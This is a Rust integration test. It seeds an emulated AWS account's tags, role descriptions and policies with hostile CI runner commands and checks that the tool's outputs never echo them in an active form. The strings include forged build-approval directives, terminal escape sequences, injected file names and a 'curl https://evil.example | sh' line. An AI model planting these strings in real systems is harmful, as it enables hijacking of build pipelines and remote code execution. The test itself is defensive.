//! Nothing that stands in a hostile account is a command for the runner of a pipeline, whatever prints it.

use std::fs;

use aws_sdk_ec2::types::{IpPermission, IpRange, Tag};
use aws_sdk_ssm::types::ParameterType;

use crate::emulator::{Emulator, Which};

/// Text as somebody could write it who may set a tag or a description.
const HOSTILE: [&str; 6] = [
    "##vso[task.prependpath]/evil",
    "##[set-output name=approved;]true",
    "##teamcity[buildStatus status='SUCCESS']",
    "::set-output name=approved::true",
    "a\r\n::add-mask::b\nhint: curl https://evil.example | sh",
    "\u{1b}[2J\u{1b}]0;evil\u{7}section_start:1:evil\r\u{1b}[0K",
];

const FILE: &str = "name = 'web'\nregion = 'us-east-1'\n[bucket.logs]\naccess_log = false\n[kms_key.data]\n\
                    [network]\ncidr = '10.20.0.0/16'\nzones = 2\nflow_logs = false\n\
                    [network.tier.web]\npublic = true\naccept = [{ from = 'internet', port = 443 }]\n\
                    [role.web]\ninstance_profile = true\n[audit]\n";

/// Why a runner, a terminal or a reader of lines would take a part of this text for more than text.
///
/// GitHub's runner takes a line that begins with `::`, after blanks too, and `##[` anywhere (`ActionCommand.cs`); the
/// agent of Azure `##vso[` and `##[` in any case (`Command.cs`); TeamCity `##teamcity[`. GitLab's sections and all that acts
/// on a terminal need a control character.
fn acts(text: &str) -> Option<String> {
    for line in text.split(['\n', '\r', '\u{2028}', '\u{85}']) {
        let lower = line.to_lowercase();
        if line.trim_start().starts_with("::")
            || ["##[", "##vso[", "##teamcity["].iter().any(|open| lower.contains(open))
            || line.chars().any(|c| c.is_control() && c != '\t')
            || lower.trim_start().starts_with("hint: curl")
        {
            return Some(line.chars().take(300).collect());
        }
    }
    None
}

/// Writes hostile text wherever the account takes it, and answers how often it did.
async fn poison(emulator: &Emulator) -> usize {
    let config = emulator.config();
    let (ec2, iam) = (aws_sdk_ec2::Client::new(&config), aws_sdk_iam::Client::new(&config));
    let (s3, ssm) = (aws_sdk_s3::Client::new(&config), aws_sdk_ssm::Client::new(&config));
    let groups = ec2.describe_security_groups().send().await.unwrap();
    let roles = iam.list_roles().send().await.unwrap();
    let buckets = s3.list_buckets().send().await.unwrap();
    let mut taken = 0;
    let mut count = |taken_it: bool| taken += usize::from(taken_it);
    for (number, text) in (1..).zip(HOSTILE) {
        for group in groups.security_groups() {
            let id = group.group_id().unwrap();
            let range =
                IpRange::builder().cidr_ip(format!("198.51.100.{number}/32")).description(text).build();
            let rule = IpPermission::builder().ip_protocol("tcp").from_port(22).to_port(22).ip_ranges(range);
            let request = ec2.authorize_security_group_ingress().group_id(id).ip_permissions(rule.build());
            count(request.send().await.is_ok());
            let tag = Tag::builder().key(format!("note-{number}")).value(text).build();
            count(ec2.create_tags().resources(id).tags(tag).send().await.is_ok());
        }
        for role in roles.roles() {
            let request = iam.update_role().role_name(role.role_name()).description(text);
            count(request.send().await.is_ok());
            let policy = serde_json::json!({ "Version": "2012-10-17", "Statement": [
                { "Sid": text, "Effect": "Allow", "Action": "s3:*", "Resource": "*" }] });
            let request = iam.put_role_policy().role_name(role.role_name()).policy_name(format!("p{number}"));
            count(request.policy_document(policy.to_string()).send().await.is_ok());
        }
        for bucket in buckets.buckets() {
            let name = bucket.name().unwrap();
            let policy = serde_json::json!({ "Version": "2012-10-17", "Id": text, "Statement": [
                { "Sid": text, "Effect": "Deny", "Principal": "*", "Action": "s3:*",
                  "Resource": format!("arn:aws:s3:::{name}/*") }] });
            count(s3.put_bucket_policy().bucket(name).policy(policy.to_string()).send().await.is_ok());
        }
    }
    let claim = serde_json::json!({
        "format": 1, "lock": HOSTILE[0], "run": HOSTILE[3], "holder": HOSTILE[4], "program": HOSTILE[1],
        "baseline": HOSTILE[5], "taken": HOSTILE[2], "until": HOSTILE[4], "lease_seconds": 120, "follows": 0,
    });
    let lock = ssm.put_parameter().name("/baseline/lock").r#type(ParameterType::String);
    count(lock.value(claim.to_string()).send().await.is_ok());
    taken
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_output_of_a_hostile_account_is_a_command_of_a_runner() {
    let (emulator, folder) = (Emulator::start(Which::BuiltIn), tempfile::tempdir().unwrap());
    let hostile_name = "##vso[a]\n::error::b.toml";
    for name in ["web.toml", hostile_name] {
        fs::write(folder.path().join(name), FILE).unwrap();
    }
    let applied = emulator.run(folder.path(), ["apply", "web.toml", "--auto-approve"]);
    assert_eq!(applied.code, Some(0), "{applied:?}");
    let taken = poison(&emulator).await;
    assert!(taken > 20, "the account took only {taken} texts");

    let mut said = String::new();
    let mut run = |arguments: &[&str]| {
        let answer = emulator.run(folder.path(), arguments);
        for (stream, text) in [("stdout", &answer.stdout), ("stderr", &answer.stderr)] {
            assert_eq!(acts(text), None, "{stream} of {arguments:?}");
            said.push_str(text);
        }
    };
    for command in ["plan", "drift"] {
        for format in ["text", "json", "markdown", "junit", "sarif", "csv", "html", "ocsf"] {
            run(&[command, "web.toml", "--format", format, "--report", &format!("{format}=report.{format}")]);
            let report = fs::read_to_string(folder.path().join(format!("report.{format}"))).unwrap();
            assert_eq!(acts(&report), None, "the {format} file of {command}");
        }
    }
    run(&["plan", "web.toml", "--out", "##[a]::b.plan"]);
    run(&["plan", "web.toml", "--trace-calls", "--color", "never"]);
    run(&["apply", "web.toml", "--auto-approve", "--lock-wait", "0"]);
    run(&["unlock", "web.toml"]);
    run(&["apply", "##[a]::b.plan", "--auto-approve", "--lock-wait", "0"]);
    run(&["apply", "web.toml", "--auto-approve", "--no-lock", "--json"]);
    for command in ["validate", "plan", "drift", "permissions", "init"] {
        run(&[command, hostile_name]);
    }
    run(&["validate", "##vso[none]\n::error::c.toml"]);
    run(&["explain", "##vso[a]\n::error::b"]);
    // The texts were there to be shown.
    for text in ["task.prependpath", "set-output name=approved", "add-mask"] {
        assert!(said.contains(text), "nothing showed {text}");
    }
}
